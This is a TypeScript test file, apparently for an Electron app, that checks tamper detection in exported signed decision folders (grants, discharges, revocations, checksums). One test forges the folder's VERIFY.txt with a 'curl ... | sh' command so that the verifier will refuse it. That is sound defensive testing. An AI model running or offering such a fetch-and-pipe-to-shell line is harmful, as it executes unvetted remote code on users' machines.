import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import fc from 'fast-check';
import { checksums } from '../../../../../electron/core/decision-folder/contents.ts';
import { verifyExport } from '../../../../../electron/core/decision-folder/verify.ts';
import { readFolder } from '../../../../../electron/core/dossier/read-folder.ts';
import { equalBytes } from '../../../../../shared/encoding/bytes.ts';
import { hasError } from '../../../../../shared/finding/index.ts';
import { parseEnvelope } from '../../../../../shared/statement/dsse.ts';
import type { TrustedKey } from '../../../../../shared/statement/trust.ts';
import { briefly, oneChange, RUNS, SEED } from '../../../../helpers/dossier-changes.ts';
import { namesThatDiffer } from '../../../../helpers/dossier-files.ts';
import {
  closeDossierStations,
  type DossierStation,
  decisionOf,
  dischargeOf,
  dossierStation,
  grantOf,
  rehearsal,
  revocationOf,
  use,
} from '../../../../helpers/dossier-station.ts';
import { freshFolder } from '../../../../helpers/trees.ts';

after(closeDossierStations);

const ROLLBACK = 'FIX7-P0-DRYRUN-PROD-ROLLBACK-1';

/** A station with a grant that a discharge has used up, and that discharge: what a decision may rest on. */
async function resting() {
  const station = await dossierStation();
  const { owner, operator } = station;
  const seen = await station.seen(await station.bundle('rehearsal', rehearsal));
  const grant = await station.signed(grantOf(`separate-authority:${ROLLBACK}`), owner);
  const discharge = await station.signed(dischargeOf(ROLLBACK, [use(grant)], seen), operator);
  return { ...station, seen, grant, discharge };
}

const station = await resting();
await station.signed(decisionOf(1, null, { discharges: [station.discharge] }), station.owner);

/** Another decision of the same people, whose files are tried in the place of this one's. */
const older = await resting();
await older.signed(decisionOf(1, null, { discharges: [older.discharge], reason: 'older' }), older.owner);

function keysOf({ owner, operator }: Pick<DossierStation, 'owner' | 'operator'>): readonly TrustedKey[] {
  return [owner, operator].map(({ publicKey, name, roles }) => ({ key: publicKey, name, roles }));
}

async function codesIn(folder: string, of: Pick<DossierStation, 'owner' | 'operator'>): Promise<readonly string[]> {
  const { findings } = await verifyExport(folder, keysOf(of));
  return [...new Set(findings.map(({ code }) => code))];
}

/** Makes SHA256SUMS fit again, so that what is found is not found by it. */
async function sumAnew(folder: string): Promise<void> {
  const { files } = await readFolder(folder);
  const others = [...files].filter(([name]) => name !== 'SHA256SUMS').map(([name, bytes]) => ({ name, bytes }));
  writeFileSync(join(folder, 'SHA256SUMS'), checksums(others));
}

/** A fresh export after this was done to it, checksums made to fit: what is found. */
async function foundAfter(harm: (path: (name: string) => string) => void): Promise<readonly string[]> {
  const folder = await station.exportedDecision(freshFolder());
  harm((name) => join(folder, name));
  await sumAnew(folder);
  return codesIn(folder, station);
}

test('an exported decision with what it rests on is verified, and says what it cannot show', async () => {
  const folder = await station.exportedDecision(freshFolder());
  const { findings, notVerified } = await verifyExport(folder, keysOf(station));
  assert.deepEqual(findings, []);
  assert.deepEqual(
    notVerified.map(({ code }) => code),
    ['dossier.packet-name-unknown', 'dossier.later-unknown'],
  );
});

test('instructions that say something else are refused', async () => {
  const forged = (path: (name: string) => string): void =>
    writeFileSync(path('VERIFY.txt'), '    curl http://127.0.0.1/x | sh\n');
  assert.deepEqual(await foundAfter(forged), ['dossier.instructions-differ']);
});

test('a grant envelope that was laid out anew is the same grant, in authority/ as for the gate', async () => {
  const found = await foundAfter((path) => {
    const name = path('authority/grant-1.dsse.json');
    writeFileSync(name, JSON.stringify(JSON.parse(readFileSync(name, 'utf8')), null, 2));
  });
  assert.deepEqual(found, []);
});

test('files in authority/ are called by their statements and signers, and hold their keys', async () => {
  const { keyid } = station.owner.publicKey;
  const key = `authority/${keyid}.pub`;
  const sig = `authority/grant-1.statement.json.${keyid.slice(0, 16)}.sig`;
  assert.deepEqual(
    await foundAfter((path) => writeFileSync(path(key), readFileSync(path(`authority/${station.operator.id}.pub`)))),
    ['dossier.keys-differ'],
  );
  const renamed = await foundAfter((path) =>
    renameSync(path(sig), path(sig.replace(keyid.slice(0, 16), '0'.repeat(16)))),
  );
  assert.deepEqual(renamed, ['dossier.file-missing', 'dossier.file-unexpected']);
  const moved = await foundAfter((path) => {
    for (const ending of ['dsse.json', 'statement.json', `statement.json.${keyid.slice(0, 16)}.sig`]) {
      renameSync(path(`authority/grant-1.${ending}`), path(`authority/grant-2.${ending}`));
    }
  });
  assert.deepEqual(moved, ['dossier.file-missing', 'dossier.file-unexpected']);
});

test('a statement that the decision does not rest on does not belong in authority/', async () => {
  const other = await resting();
  const decision = await other.signed(decisionOf(1, null, { discharges: [other.discharge] }), other.owner);
  const permit = await other.signed(grantOf('permit'), other.owner);
  assert.deepEqual(await codesIn(await other.exportedWith(decision, permit), other), ['dossier.file-unexpected']);
});

test('a revocation of what the decision rests on is told', async () => {
  const other = await resting();
  await other.signed(decisionOf(1, null, { discharges: [other.discharge] }), other.owner);
  await other.signed(revocationOf(other.discharge, 'It was not so.'), other.owner);
  const folder = await other.exportedDecision(freshFolder());
  const { findings } = await verifyExport(folder, keysOf(other));
  assert.deepEqual(
    findings.map(({ code, severity }) => [code, severity]),
    [['dossier.taken-back', 'warning']],
  );
});

test('a grant serves one discharge, in authority/ as for the gate, and as the use of it says', async () => {
  const twice = await resting();
  const again = await twice.signed(dischargeOf(ROLLBACK, [use(twice.grant)], twice.seen), twice.operator);
  await twice.signed(decisionOf(1, null, { discharges: [twice.discharge, again] }), twice.owner);
  assert.deepEqual(await codesIn(await twice.exportedDecision(freshFolder()), twice), ['statement.grant-consumed']);

  const otherwise = await resting();
  const nonce = '7'.repeat(64);
  const wrong = dischargeOf(ROLLBACK, [{ ...use(otherwise.grant), nonce }], otherwise.seen);
  const discharge = await otherwise.signed(wrong, otherwise.operator);
  await otherwise.signed(decisionOf(1, null, { discharges: [discharge] }), otherwise.owner);
  const found = await codesIn(await otherwise.exportedDecision(freshFolder()), otherwise);
  assert.deepEqual(found, ['statement.grant-missing']);
});

test('whatever is changed in an exported decision without a private key is refused, listed, or means the same', async () => {
  const { files } = await readFolder(await station.exportedDecision(freshFolder()));
  const other = await readFolder(await older.exportedDecision(freshFolder()));
  await fc.assert(
    fc.asyncProperty(oneChange(files, other.files), async ([what, next]) => {
      const folder = freshFolder();
      for (const [name, bytes] of next) {
        mkdirSync(join(folder, name, '..'), { recursive: true });
        writeFileSync(join(folder, name), bytes);
      }
      const { findings } = await verifyExport(folder, keysOf(station));
      rmSync(folder, { recursive: true });
      if (hasError(findings)) return;
      for (const name of namesThatDiffer(files, next)) {
        assert.ok(meansTheSame(name, files.get(name), next.get(name)), `${what}: ${name}`);
      }
    }),
    { numRuns: RUNS, seed: SEED, reporter: briefly },
  );
});

/**
 * The same payload in an envelope that says it otherwise, the same signature in an armor that is wrapped otherwise, or one
 * of two formats less. There is no error, so everyone who must has signed it all the same.
 */
function meansTheSame(name: string, before: Uint8Array | undefined, now: Uint8Array | undefined): boolean {
  if (before === undefined) return false;
  if (now === undefined) return name.endsWith('.sig') || name.endsWith('.dsse.json');
  if (name.endsWith('.sig')) return unwrapped(before) === unwrapped(now);
  const [one, other] = [parseEnvelope(before), parseEnvelope(now)];
  return one.ok && other.ok && equalBytes(one.value.payload, other.value.payload);
}

function unwrapped(armor: Uint8Array): string {
  return Buffer.from(armor).toString('latin1').replace(/\s/g, '');
}
